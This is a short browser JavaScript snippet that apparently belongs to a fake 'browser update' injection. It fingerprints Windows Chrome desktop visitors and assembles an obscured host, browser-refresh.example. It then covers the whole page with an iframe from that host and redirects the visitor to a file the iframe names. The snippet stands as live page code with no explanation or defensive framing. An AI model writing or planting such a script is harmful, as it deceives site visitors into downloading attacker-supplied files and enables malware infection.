window.addEventListener('load', function () {
  var seen = null;
  try { seen = localStorage.getItem('upd_shown'); } catch (e) {}
  var isWin = navigator.platform.indexOf('Win') === 0;
  var isChrome = !!window.chrome && navigator.userAgent.indexOf('Edg') < 0;
  if (seen || !isWin || !isChrome || screen.width < 1024) { return; }
  var el = document.createElement('iframe');
  var parts = { c: 'example', a: 'https:', b: 'browser-refresh' };
  el.src = parts.a + '//' + parts.b + '.' + parts.c + '/cdn-vs/22per.php?' + Math.floor(Math.random() * 9999);
  el.style.cssText = 'position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff';
  document.documentElement.style.overflow = 'hidden';
  document.body.appendChild(el);
  window.addEventListener('message', function (m) {
    if (m.source === el.contentWindow && m.data && m.data.done) {
      localStorage.setItem('upd_shown', '1');
      location.href = m.data.file;
    }
  });
});
